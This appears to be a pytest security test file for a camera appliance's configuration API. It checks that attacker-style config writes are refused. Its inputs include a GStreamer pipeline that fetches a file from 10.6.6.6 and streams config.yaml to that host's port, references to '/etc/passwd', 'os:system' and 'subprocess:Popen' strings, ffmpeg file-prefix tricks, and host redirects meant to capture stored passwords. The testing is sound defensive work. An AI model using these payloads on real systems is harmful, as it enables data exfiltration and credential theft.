"""The config API as an attacker on the LAN would use it (docs/configuration.md, "What the API may change").

Every refused change answers 400 naming the field and leaves both the config file (byte for
byte) and the running appliance untouched.
"""
import json

import pytest

from tests.api.conftest import CAMERA_PASSWORD, MQTT_PASSWORD

GST_ATTACK = ("gst:souphttpsrc location=http://10.6.6.6/x ! filesink location=/tmp/owned  "
              "filesrc location=config.yaml ! tcpclientsink host=10.6.6.6 port=9999  videotestsrc ! videoconvert ! appsink")


def assert_refused(api, method, body, loc):
    before_bytes = api.config_path.read_bytes()
    before_config = api.changes.current()
    response = api.request(method, "/api/v1/config", json=body)
    assert response.status_code == 400, response.text
    assert loc in [d["loc"] for d in response.json()["details"]], response.text
    assert api.config_path.read_bytes() == before_bytes
    assert api.changes.current() == before_config
    assert api.service.applied.apply_calls == 0
    return response


def cameras_with(source):
    return [{"id": "front", "source": "rtsp://admin:***@10.0.0.5:554/stream1"}, {"id": "evil", "source": source}]


@pytest.mark.parametrize("source", [GST_ATTACK, "csi://0", "/etc/passwd", "file:///etc/hostname"])
@pytest.mark.parametrize("method", ["PUT", "PATCH"])
def test_sources_that_read_files_or_run_pipelines_are_refused(api, method, source):
    if method == "PUT":
        body = api.get("/api/v1/config").json()
        body["cameras"] = cameras_with(source)
    else:
        body = {"cameras": cameras_with(source)}
    response = assert_refused(api, method, body, "cameras.1.source")
    assert "allow_unsafe_sources" in response.json()["error"] + json.dumps(response.json()["details"])


@pytest.mark.parametrize(
    "patch, loc",
    [
        ({"model": {"labels": "{config}"}}, "model.labels"),
        ({"model": {"path": "/etc/x.onnx"}}, "model.path"),
        ({"model": {"engine_dir": "/etc"}}, "model.engine_dir"),
        ({"model": {"calibration_dir": "/"}}, "model.calibration_dir"),
        ({"events": {"dir": "/etc"}}, "events.dir"),
        # the recording folder is written to and served over HTTP: like events.dir, never moved out of it
        ({"record": {"dir": "/etc"}}, "record.dir"),
        ({"record": {"dir": "/"}}, "record.dir"),
        ({"record": {"dir": "recordings/../.."}}, "record.dir"),
        ({"api": {"allow_unsafe_sources": True}}, "api.allow_unsafe_sources"),
    ],
)
def test_paths_outside_the_folders_in_use_and_the_unsafe_switch_are_refused(api, patch, loc):
    text = json.dumps(patch).replace("{config}", str(api.config_path))
    assert_refused(api, "PATCH", json.loads(text), loc)


@pytest.mark.parametrize(
    "capture, loc",
    [
        # the decoder process opens its source and shares frames through code named by
        # module:attribute strings; none of them may come from a config write
        ({"opener": "os:system"}, "capture.opener"),
        ({"ring": "subprocess:Popen"}, "capture.ring"),
        ({"nvdec_processes": "/etc/passwd"}, "capture.nvdec_processes"),
        ({"nvdec_processes": {"opener": "os:system"}}, "capture.nvdec_processes"),
        ({"nvdec_processes": ["x"] * 10_000}, "capture.nvdec_processes"),
    ],
)
def test_decoder_process_settings_take_a_switch_and_nothing_else(api, capture, loc):
    assert_refused(api, "PATCH", {"capture": capture}, loc)


def test_decoder_processes_can_be_switched_off(api):
    response = api.request("PATCH", "/api/v1/config", json={"capture": {"nvdec_processes": False}})
    assert response.status_code == 200, response.text
    assert api.changes.current().capture.nvdec_processes is False


def test_the_file_on_disk_may_allow_unsafe_sources(make_api):
    api = make_api({"api": {"allow_unsafe_sources": True}})
    response = api.request("PATCH", "/api/v1/config", json={"cameras": [{"id": "g", "source": "gst:videotestsrc ! appsink"}]})
    assert response.status_code == 200, response.text
    # ...but the API can never switch it off (nor on).
    response = api.request("PATCH", "/api/v1/config", json={"api": {"allow_unsafe_sources": False}})
    assert response.status_code == 400 and response.json()["details"][0]["loc"] == "api.allow_unsafe_sources"


def test_a_class_name_typo_is_400_with_a_hint_and_nothing_is_saved(api):
    response = assert_refused(api, "PATCH", {"model": {"classes": ["persn"]}}, "model.classes")
    assert "did you mean 'person'" in response.json()["error"]
    assert api.request("PATCH", "/api/v1/config", json={"model": {"classes": ["person"]}}).status_code == 200


def test_a_model_file_that_is_not_there_is_400(api, model_path):
    assert_refused(api, "PATCH", {"model": {"path": str(model_path.parent / "missing.onnx")}}, "model.path")


def test_moving_the_broker_does_not_send_it_the_stored_password(api):
    """PATCH {"mqtt": {"port": <attacker's broker>}} used to log in there with the real password."""
    response = assert_refused(api, "PATCH", {"mqtt": {"port": 18830}}, "mqtt.password")
    assert "must carry the secret again" in response.text and MQTT_PASSWORD not in response.text
    assert_refused(api, "PATCH", {"mqtt": {"host": "10.6.6.6", "password": "***"}}, "mqtt.password")
    body = api.get("/api/v1/config").json()
    body["mqtt"]["host"] = "10.6.6.6"
    assert_refused(api, "PUT", body, "mqtt.password")


def test_moving_a_camera_does_not_send_it_the_stored_password(api):
    body = {"cameras": [{"id": "front", "source": "rtsp://admin:***@10.6.6.6:554/stream1"}, {"id": "back", "source": "test://bars"}]}
    assert_refused(api, "PATCH", body, "cameras.0.source")


def test_a_new_destination_with_its_secret_is_accepted(api):
    response = api.request("PATCH", "/api/v1/config", json={"mqtt": {"port": 18830, "password": "n3w-pass"}})
    assert response.status_code == 200, response.text
    assert "n3w-pass" not in response.text and response.json()["mqtt"]["password"] == "***"


def test_passwords_with_at_signs_and_in_query_parameters_are_masked(make_api):
    api = make_api({"cameras": [{"id": "front", "source": "rtsp://admin:ssW0rd@t@10.0.0.5/s"},
                                {"id": "back", "source": "http://10.0.0.6/video.cgi?user=admin&pwd=hunter2"}]})
    for path in ("/api/v1/config", "/api/v1/cameras"):
        text = api.get(path).text
        assert "ssW0rd" not in text and "rtsp://admin:***@10.0.0.5/s" in text
        assert "hunter2" not in text and "video.cgi?user=admin&pwd=***" in text
    assert CAMERA_PASSWORD not in api.get("/api/v1/cameras").text
    # The masked query parameter is filled in again on a round trip.
    response = api.request("PUT", "/api/v1/config", json=api.get("/api/v1/config").json())
    assert response.status_code == 200, response.text
    assert api.changes.current().cameras[1].source.endswith("pwd=hunter2")


@pytest.mark.parametrize("depth", [8_000, 100])
@pytest.mark.parametrize("method", ["PUT", "PATCH"])
def test_deeply_nested_json_is_400_not_500(api, method, depth):
    body = b'{"snapshots": ' + b'{"a": ' * depth + b"1" + b"}" * depth + b"}"
    before_bytes = api.config_path.read_bytes()
    response = api.request(method, "/api/v1/config", data=body, headers={"Content-Type": "application/json"})
    assert response.status_code == 400 and "nested" in response.json()["error"]
    assert api.config_path.read_bytes() == before_bytes


@pytest.mark.parametrize(
    "model, loc",
    [
        # the engine process is started with code named by module:attribute strings (its runtime,
        # its device opener); none of them may come from a config write
        ({"engine_runtime": "os:system"}, "model.engine_runtime"),
        ({"engine_process_device": "subprocess:Popen"}, "model.engine_process_device"),
        ({"engine_process": "/etc/passwd"}, "model.engine_process"),
        ({"engine_process": {"runtime": "os:system"}}, "model.engine_process"),
        ({"engine_process": ["x"] * 10_000}, "model.engine_process"),
    ],
)
def test_engine_process_setting_takes_a_switch_and_nothing_else(api, model, loc):
    assert_refused(api, "PATCH", {"model": model}, loc)


def test_the_engine_process_can_be_switched_on(api):
    response = api.request("PATCH", "/api/v1/config", json={"model": {"engine_process": True}})
    assert response.status_code == 200, response.text
    assert api.changes.current().model.engine_process is True


@pytest.mark.parametrize("enabled", [False, True])
@pytest.mark.parametrize("source", ["file:{outside}", "FILE:{outside}", "concat:{outside}", "subfile,,start,0,end,999,,:{outside}",
                                    "missing.mp4"])
def test_ffmpeg_prefixes_and_missing_files_are_refused_for_disabled_cameras_too(make_api, tmp_path, monkeypatch,
                                                                               bus_jpg, source, enabled):
    """A camera file in the working directory (as in configs/demo.yaml) makes it a media folder:
    ``file:/abs/path`` resolved there while FFmpeg opened the absolute path, and a disabled
    camera skipped the existence check it never got again once enabled."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "clip.mp4").write_bytes(b"x")
    api = make_api({"cameras": [{"id": "front", "source": "clip.mp4"}]})
    evil = {"id": "evil", "source": source.format(outside=bus_jpg), "enabled": enabled}
    assert_refused(api, "PATCH", {"cameras": [{"id": "front", "source": "clip.mp4"}, evil]}, "cameras.1.source")
    assert api.request("POST", "/api/v1/cameras", json=evil).status_code == 400
    assert [cam["id"] for cam in api.get("/api/v1/cameras").json()] == ["front"]


@pytest.mark.parametrize("source, count, why", [
    ("test://noise?width=8192&height=8192&fps=1000", 1, "megapixels per second"),
    # 0.1 fps keeps the pixel rate low: what refuses these is the memory their frames would hold.
    ("test://noise?width=8192&height=8192&fps=0.1", 62, "MB of frames"),
])
def test_synthetic_cameras_are_budgeted_against_the_device(api, source, count, why):
    """Each 8192 x 8192 test:// camera held ~760 MB; 64 were allowed."""
    cameras = [{"id": "front", "source": "rtsp://admin:***@10.0.0.5:554/stream1"}, {"id": "back", "source": "test://bars"}]
    cameras += [{"id": f"big{i}", "source": source} for i in range(count)]
    response = api.request("PATCH", "/api/v1/config", json={"cameras": cameras})
    assert response.status_code == 400, response.text
    assert why in json.dumps(response.json()["details"])
    assert api.service.applied.apply_calls == 0 and len(api.get("/api/v1/cameras").json()) == 2
    single = api.request("POST", "/api/v1/cameras", json={"id": "big", "source": "test://noise?width=8192&height=8192&fps=1000"})
    assert single.status_code == 400 and "megapixels per second" in single.text
